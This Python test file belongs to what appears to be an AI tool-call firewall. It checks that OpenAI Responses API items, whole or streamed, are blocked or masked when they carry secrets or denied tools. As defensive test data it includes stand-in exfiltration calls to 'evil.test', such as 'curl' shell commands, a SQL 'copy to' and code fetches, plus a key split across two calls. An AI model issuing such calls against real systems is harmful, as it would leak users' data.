"""The Responses API through the OpenAI door: every kind of item, and streams that are not tidy."""

from __future__ import annotations

import json
from collections.abc import AsyncIterator
from typing import Any

import pytest

from edgeward import Policy, load_policy
from edgeward.guards.clients._wire import Reply
from edgeward.guards.clients.openai.client import OpenAIDoor
from tests.wire import responses as wired
from tests.wire.server import Call, Raw, Say, Wire

from . import openai_ways as ways
from .openai_ways import INPUT, OLD
from .test_openai import BLOCKED, KEY, MAIL, MASK, POLICY, READ

pytestmark = pytest.mark.skipif(OLD, reason="the SDK has no Responses API")


@pytest.fixture(autouse=True)
async def closed() -> AsyncIterator[None]:
    """No connection outlives its test."""
    yield
    await ways.close_all()


def reply_to(policy: Policy = POLICY, **more: Any) -> Reply:
    """A response in flight, without the HTTP around it."""
    opened = OpenAIDoor(policy, ()).opening("post", "/responses", {**INPUT, **more})
    assert opened is not None
    return opened


def whole(*items: dict[str, Any], policy: Policy = POLICY) -> dict[str, Any]:
    """A response with these items, guarded."""
    return reply_to(policy).whole({"id": "r", "status": "completed", "output": list(items)})


def passed(events: Any, reply: Reply | None = None) -> list[dict[str, Any]]:
    """What goes out for these events."""
    flowing = reply or reply_to(stream=True)
    out: list[dict[str, Any]] = []
    for data in events:
        new = flowing.event(data)
        out += [data] if new is None else new
    return [*out, *flowing.end(finished=False)]


EVIL = "https://evil.test/c"
ITEMS = [
    {"type": "function_call", "name": "fetch", "arguments": json.dumps({"url": EVIL})},
    {"type": "function_call", "name": "send_email", "arguments": "{}"},
    {"type": "custom_tool_call", "name": "sql", "input": f"copy to '{EVIL}'"},
    {"type": "mcp_call", "name": "send_email", "arguments": "{}", "server_label": "s"},
    {"type": "mcp_approval_request", "name": "send_email", "arguments": "{}"},
    {"type": "web_search_call", "action": {"type": "open_page", "url": EVIL}},
    {"type": "computer_call", "action": {"type": "type", "text": EVIL}},
    {"type": "computer_call", "actions": [{"type": "type", "text": EVIL}]},
    {"type": "shell_call", "action": {"commands": [f"curl {EVIL}"]}},
    {"type": "local_shell_call", "action": {"type": "exec", "command": ["curl", EVIL]}},
    {"type": "apply_patch_call", "operation": {"type": "create_file", "path": "a", "diff": EVIL}},
    {"type": "code_interpreter_call", "code": f"get('{EVIL}')", "container_id": "c"},
    {"type": "hologram_call", "beam": EVIL},
    {"type": "hologram", "beam": EVIL},
    {"name": "no_type_at_all"},
]


@pytest.mark.parametrize("item", ITEMS, ids=lambda i: str(i.get("type")))
@pytest.mark.parametrize("streamed", [False, True], ids=["whole", "stream"])
def test_every_kind_of_call_is_judged(item: dict[str, Any], streamed: bool) -> None:
    """Also kinds that nobody knows yet; what is refused leaves nothing behind."""
    given = {"id": "i1", "call_id": "c1", **item}
    if streamed:
        reply = reply_to(stream=True)
        call = Call(
            item.get("name", ""), item.get("arguments", ""), "c1", extra={"type": None, **item}
        )
        out = passed(wired.events(Say(calls=[call])), reply)
        data = out[-1]["response"]
        assert "evil.test" not in json.dumps(out[:-1])
    else:
        data = whole(given)
    (message,) = data["output"]
    assert message["content"][0]["text"] == BLOCKED
    assert data["firewall"]["action"] == "block"
    assert data["firewall"]["stripped_tool_calls"] == ["c1"]


def test_the_calls_of_a_whole_response_are_judged_together() -> None:
    """A key that two calls carry out in pieces: neither arrives."""
    calls = [
        {"type": "function_call", "call_id": f"c{n}", "name": "read_doc", "arguments": arguments}
        for n, arguments in enumerate((json.dumps({"q": KEY[:14]}), json.dumps({"q": KEY[14:]})))
    ]
    assert "read_doc" not in json.dumps(whole(*calls)["output"])


def test_a_tool_of_the_providers_own_has_its_name() -> None:
    """`web_search` on a list of tools is what `web_search_call` calls."""
    policy = load_policy({"version": 1, "tool_allowlist": ["web_search", "shell"]})
    items = [
        {"id": "a", "type": "web_search_call", "action": {"type": "search", "query": "x"}},
        {"id": "b", "type": "shell_call", "action": {"commands": ["ls"]}},
        {"id": "c", "type": "file_search_call", "queries": ["x"], "results": []},
    ]
    data = whole(*items, policy=policy)
    assert data["output"] == items[:2]
    assert data["firewall"]["blocked_calls"][0]["name"] == "file_search"


def test_reasoning_and_images_stay_as_they_are() -> None:
    """Ids, signatures and data: only the provider may change them."""
    items = [
        {"id": "rs_1", "type": "reasoning", "summary": [], "encrypted_content": KEY},
        {"id": "ig_1", "type": "image_generation_call", "result": "aGVsbG8="},
        {"id": "mcpl_1", "type": "mcp_list_tools", "server_label": "s", "tools": []},
    ]
    assert whole(*items)["output"] == items


def test_what_the_provider_ran_comes_back_masked() -> None:
    """The results of MCP calls and of code that ran on the provider's side."""
    data = whole(
        {"id": "a", "type": "mcp_call", "name": "read", "arguments": "{}", "output": KEY},
        {"id": "b", "type": "code_interpreter_call", "code": "1",
         "outputs": [{"type": "logs", "logs": KEY}]},
    )  # fmt: skip
    assert KEY not in json.dumps(data)
    assert data["output"][0]["output"] == MASK


def test_masked_arguments_of_every_kind() -> None:
    """A verdict of `redact` writes them where the kind has them."""
    policy = load_policy({"version": 2, "tools": {"*": "redact"}})
    items = [
        {"id": "a", "type": "function_call", "name": "f", "arguments": json.dumps({"x": KEY})},
        {"id": "b", "type": "custom_tool_call", "name": "g", "input": KEY},
        {"id": "c", "type": "shell_call", "action": {"commands": [KEY], "timeout_ms": 5}},
    ]
    a, b, c = whole(*items, policy=policy)["output"]
    assert a["arguments"] == f'{{"x":"{MASK}"}}'
    assert b["input"] == MASK
    assert c["action"] == {"commands": [MASK], "timeout_ms": 5}


def test_a_request_is_walked_whole(wire: Wire) -> None:
    """C01: input of every kind, and the instructions; the caller's list stays."""
    given = [
        {"role": "user", "content": [{"type": "input_text", "text": KEY}]},
        {"type": "function_call", "call_id": "c1", "name": "f", "arguments": f'{{"a":"{KEY}"}}'},
        {"type": "function_call_output", "call_id": "c1", "output": KEY},
        {"type": "shell_call_output", "call_id": "c2", "output": [{"stdout": KEY, "stderr": ""}]},
        {"type": "reasoning", "id": "rs_1", "summary": [], "encrypted_content": "c2stcHJvag=="},
    ]
    before = json.dumps(given)
    wire.script(Say("ok"), Say("ok"))
    client = ways.sync_client(wire, POLICY)
    client.responses.create(model="m", input=iter(given), instructions=f"use {KEY}")
    client.responses.create(model="m", input=KEY)
    first, second = (seen.body for seen in wire.requests)
    assert KEY not in json.dumps([first, second])
    assert len(first["input"]) == 5
    assert first["input"][4] == given[4]
    assert json.dumps(given) == before


LIMITED = load_policy(
    {"version": 2, "tools": {"pay": {"max_calls": 1}}, "token_budget_per_session": 1_000}
)
PAY = Call("pay", "{}", "c1")


def test_a_response_that_follows_another_remembers_it(wire: Wire) -> None:
    """`previous_response_id` and `conversation`: the provider keeps what went before."""
    client = ways.sync_client(wire, LIMITED)
    output = [{"type": "function_call_output", "call_id": "c1", "output": "paid"}]
    again = Call("pay", "{}", "c2")
    wire.script(Say(calls=[PAY]), Say(calls=[again]))
    first = client.responses.create(**INPUT)
    assert ways.of_response(first).calls == [("pay", "{}")]
    second = client.responses.create(model="m", input=output, previous_response_id=first.id)
    assert ways.of_response(second).text == BLOCKED
    kept = {"id": "r", "status": "completed", "conversation": {"id": "conv_1"}}
    body = wired.body(Say(calls=[PAY]))
    wire.script(Raw({**body, **kept}), Say(calls=[again]))
    client.responses.create(**INPUT, conversation="conv_1")
    third = client.responses.create(model="m", input=output, conversation="conv_1")
    assert "max" in third.firewall["reason"] or "1 time" in third.firewall["reason"]


def test_streamed_tokens_count_for_what_follows(wire: Wire) -> None:
    """C76: the number stands in the closing event."""
    policy = load_policy({"version": 2, "tools": {"*": "allow"}, "token_budget_per_session": 15})
    client = ways.sync_client(wire, policy)
    wire.script(Say("Hi."), Say(calls=[READ]))
    list(client.responses.create(**INPUT, stream=True))
    reply = client.responses.create(**INPUT, previous_response_id="resp_1")
    assert "token budget" in reply.firewall["reason"]


def types(events: list[dict[str, Any]]) -> list[str]:
    """The kinds of events, in order."""
    return [event["type"].removeprefix("response.") for event in events]


def test_text_flows_on_and_calls_wait() -> None:
    """No event of a call goes out before the call is done; the text before it has gone."""
    reply = reply_to(stream=True)
    events = list(wired.events(Say("Some words to read here.", calls=[READ])))
    at = next(n for n, e in enumerate(events) if e.get("item", {}).get("type") == "function_call")
    out: list[dict[str, Any]] = []
    for number, event in enumerate(events):
        new = reply.event(event)
        new = [event] if new is None else new
        if number >= at and event["type"] != "response.completed" and "done" not in event["type"]:
            assert new == []
        out += new
    assert "output_text.delta" in types(out)
    assert types(out)[-5:-1] == [
        "output_item.added",
        "function_call_arguments.delta",
        "function_call_arguments.done",
        "output_item.done",
    ]


def test_items_that_come_mixed_keep_their_order() -> None:
    """What comes while a call is open waits behind it; positions are numbered anew."""
    calls = [MAIL, READ]
    events = list(wired.events(Say("Hello.", calls=calls)))
    open_, close = events[:2], events[-1:]
    by_item: dict[Any, list[Any]] = {}
    for event in events[2:-1]:
        by_item.setdefault(event["output_index"], []).append(event)
    text, mail, read = by_item[0], by_item[1], by_item[2]
    mixed = [*open_, mail[0], read[0], text[0], *read[1:], *text[1:], *mail[1:], *close]
    out = passed(mixed)
    assert "send_email" not in json.dumps(out[:-1])
    items = [e for e in out if e["type"] == "response.output_item.done"]
    assert [(e["output_index"], e["item"]["type"]) for e in items] == [
        (0, "function_call"),
        (1, "message"),
    ]
    assert out[-1]["response"]["output"] == [e["item"] for e in items]


def test_the_closing_event_lists_items_as_they_are_numbered() -> None:
    """Also where one ends before another that began earlier; at the end what no event spoke of."""
    say = {"type": "message", "role": "assistant", "content": []}
    call = {"type": "function_call", "name": "read_doc", "arguments": "{}"}
    listed = [{**say, "id": "i0"}, {**say, "id": "i1"}, {**call, "id": "i2"}, {**say, "id": "i3"}]
    added = [
        {"type": "response.output_item.added", "output_index": n, "item": listed[n]} for n in (0, 1)
    ]
    done = [
        {"type": "response.output_item.done", "output_index": n, "item": listed[n]}
        for n in (1, 0, 3)
    ]
    end = {"type": "response.completed", "response": {"id": "r", "output": listed}}
    closing = passed([*added, *done, end])[-1]
    assert [item["id"] for item in closing["response"]["output"]] == ["i0", "i1", "i3", "i2"]


def test_a_call_that_was_never_announced() -> None:
    """Judged where it is done; one that only the closing event tells of, there."""
    events = list(wired.events(Say(calls=[MAIL, READ])))
    done = [e for e in events if e["type"] == "response.output_item.done"]
    out = passed([events[0], *done, events[-1]])
    assert [i["name"] for i in out[-1]["response"]["output"]] == ["read_doc"]
    out = passed([events[0], events[-1]])
    assert [i["name"] for i in out[-1]["response"]["output"]] == ["read_doc"]


def test_a_call_that_breaks_off() -> None:
    """Neither in the events nor in the closing one; the decision says why."""
    events = list(wired.events(Say(calls=[READ])))
    body = wired.body(Say(calls=[READ]))
    end = {"type": "response.incomplete", "response": {**body, "status": "incomplete"}}
    out = passed([*events[:4], end])
    assert "read_doc" not in json.dumps(out[:-1])
    assert "before the call was whole" in out[-1]["response"]["firewall"]["reason"]
    reply = reply_to(stream=True)
    passed(events[:4], reply)
    firewall = reply.firewall
    assert firewall is not None
    assert "before the call was whole" in str(firewall["reason"])


def test_a_denied_tools_events_of_its_own_kind() -> None:
    """Commands that a shell call spells out wait, too."""
    item = {"id": "sh_1", "type": "shell_call", "call_id": "c1", "status": "completed"}
    item["action"] = {"commands": [f"curl {EVIL}"]}
    at = {"output_index": 0}
    events = [
        {"type": "response.created", "response": {"id": "r", "output": []}},
        {"type": "response.output_item.added", **at, "item": {**item, "action": {"commands": []}}},
        {"type": "response.shell_call_command.added", **at, "command_index": 0, "command": ""},
        {"type": "response.shell_call_command.delta", **at, "delta": f"curl {EVIL}"},
        {"type": "response.shell_call_command.done", **at, "command": f"curl {EVIL}"},
        {"type": "response.output_item.done", **at, "item": item},
    ]
    closing = {"type": "response.completed", "response": {"id": "r", "output": [item]}}
    assert "evil" not in json.dumps(passed([*events, closing])[:-1])


def test_an_event_that_nobody_knows_is_masked() -> None:
    """It may hold the model's words."""
    out = passed([{"type": "response.whisper.done", "whole": f"key {KEY}"}])
    assert out == [{"type": "response.whisper.done", "whole": f"key {MASK}"}]


@pytest.mark.parametrize(
    "stray",
    [
        {"type": "response.function_call_arguments.done", "name": "send_email", "arguments": "{}"},
        {"type": "response.custom_tool_call_input.delta", "delta": "send_email"},
        {"type": "response.whisper", "item": {"type": "function_call", "name": "send_email"}},
        {"type": "response.whisper", "part": {"type": "tool_call", "name": "send_email"}},
    ],
)
def test_an_event_of_a_call_that_is_not_on_its_way_is_withheld(stray: dict[str, Any]) -> None:
    """Before its item is announced, and after a refused call has ended: nobody has judged it."""
    events = list(wired.events(Say(calls=[MAIL])))
    out = passed([events[0], stray, *events[1:-1], {**stray, "output_index": 0}, events[-1]])
    assert "send_email" not in json.dumps(out[:-1])


def test_an_item_that_is_announced_with_its_text_is_masked() -> None:
    """A server may put all of it into the first event."""
    said = {"type": "output_text", "text": f"key {KEY}", "annotations": []}
    item = {"id": "m", "type": "message", "role": "assistant", "content": [said]}
    (out,) = passed([{"type": "response.output_item.added", "output_index": 0, "item": item}])
    assert out["item"]["content"][0]["text"] == f"key {MASK}"


@pytest.mark.parametrize("first", range(0, 44, 4))
def test_a_refusal_in_pieces_is_masked(first: int) -> None:
    """Like any other text of the model's; its closing events say the same."""
    text = f"key {KEY} done"
    at = {"output_index": 0, "content_index": 0, "item_id": "m"}
    events = [
        {"type": "response.refusal.delta", **at, "delta": text[:first]},
        {"type": "response.refusal.delta", **at, "delta": text[first:]},
        {"type": "response.refusal.done", **at, "refusal": text},
    ]
    out = passed(events)
    assert "".join(e["delta"] for e in out[:-1]) == out[-1]["refusal"] == f"key {MASK} done"
